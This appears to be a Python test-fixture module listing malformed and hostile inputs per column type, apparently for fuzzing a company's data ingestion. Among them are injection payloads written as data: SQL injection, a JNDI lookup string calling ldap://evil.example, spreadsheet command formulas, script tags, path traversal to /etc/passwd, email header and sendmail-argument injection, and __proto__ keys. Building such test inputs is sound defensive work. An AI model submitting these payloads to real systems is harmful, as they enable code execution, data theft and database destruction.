"""What a stranger types into the company's systems, by the column that it is typed into."""

from typing import Any

from include.channels import Column

EVIL = "mallory@evil.example"
TEXTS = (
    *(
        "a\0b",
        "\ud800",
        "y" * 30_000,
        "z" * 70_000,
        "Z\u0301" * 2000,
        "\ufdfa" * 90,
        "\u202egnp.exe",
        "\u200b",
    ),
    *(
        EVIL,
        f"Hello {EVIL}!",
        "+44 7700 900321",
        "null",
        "NaN",
        "undefined",
        "0",
        "-",
        "?",
        "\u0000",
        "\t\r\n ",
    ),
    *(
        "'; drop table customers; --",
        '" or 1=1 --',
        "{{ 7 * 7 }}",
        "{% raw %}",
        "${jndi:ldap://evil.example}",
    ),
    *("=cmd|' /C calc'!A0", "@SUM(1)", "<script>alert(1)</script>", "../../../etc/passwd", "%s%n%x", "a|b|c"),
    *(
        "x\r\nBcc: all@evil.example",
        "You won! visit evil.example",
        "\U0001f4a9" * 60,
        "\u0130I\u0131i",
        "ﬀﬁﬂ" * 30,
    ),
    *(
        "1" * 5000,
        "NULL",
        "true",
        "[]",
        "{}",
        "\\",
        "\x1b[31m",
        "\ufeffx",
        "\uffff",
        "\U000e0041" * 20,
        "٠١٢٣",
    ),
)
EMAILS = (
    *(
        "a@b",
        '"x y"@evil.example',
        "a@@evil.example",
        "-oX@evil.example",
        "|id@evil.example",
        "a%b@evil.example",
    ),
    *(
        f"a@{'b' * 300}.example",
        f"{'a' * 300}@evil.example",
        "ä@ö.example",
        "a@[127.0.0.1]",
        "a@evil.example\0",
    ),
    *(
        "; ".join(f"a{n}@evil.example" for n in range(15)),
        "<a@evil.example>",
        "mailto:a@evil.example",
        "a@-.-",
    ),
)
PHONES = (
    "+" * 40,
    "00" * 32,
    "1" * 64,
    "٠٧٧٠٠٩٠٠١٢٣",
    "+44 7700 900321 ext. 99",
    "tel:+1",
    "0" * 12,
    "++1--2",
)
NUMBERS = (
    10**12,
    -(10**12),
    1_000_001,
    "1e5",
    "1e999999",
    "0.00001",
    "NaN",
    "Infinity",
    "1,5",
    "9" * 400,
    "-0",
)
WHOLE = (2**63 - 1, -(2**63), 1_000_001, -1, 0)
OF_PEOPLE = (
    "0000-00-00",
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "1699-12-31",
    "today",
    "15/03/1980",
    "-1",
)
SYSTEMS = (
    "0000-00-00T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "2026-02-30T10:00:00Z",
    "now",
    "1" * 300,
    17,
    True,
)
AT_ODDS = (
    "2261-12-31T23:59:59Z",
    "1700-01-01T00:00:00Z",
    "1970-01-01T00:00:00+14:00",
    "2099-01-01T00:00:00Z",
)
ITEMS: tuple[Any, ...] = ([], {}, [[[[]]]], {"a": "x" * 5000}, [{"sku": EVIL}] * 3000)
FIELDS = (
    EVIL,
    "",
    " ",
    "n" * 1000,
    "+447700900321",
    "_date",
    "_arrived",
    "_extra",
    "date",
    "__proto__",
    "a.b",
    "ä",
)
LINES = (
    b"{",
    b"[]",
    b"null",
    b'"x"',
    b"\xff\xfe\x00",
    b'{"event_id": "a", "event_id": "b"}',
    b"[" * 3000,
    b"1e999",
)


def typed_into(column: Column) -> tuple[Any, ...]:
    """What a person could have typed into a column, or a system passed on."""
    if column.pii == "email":
        return (*EMAILS, *TEXTS)
    if column.pii == "phone":
        return (*PHONES, *TEXTS)
    pools = {
        "date": OF_PEOPLE,
        "timestamp": AT_ODDS,
        "decimal": NUMBERS[:3],
        "int64": WHOLE,
        "json": ITEMS,
    }
    return pools.get(column.type, TEXTS)
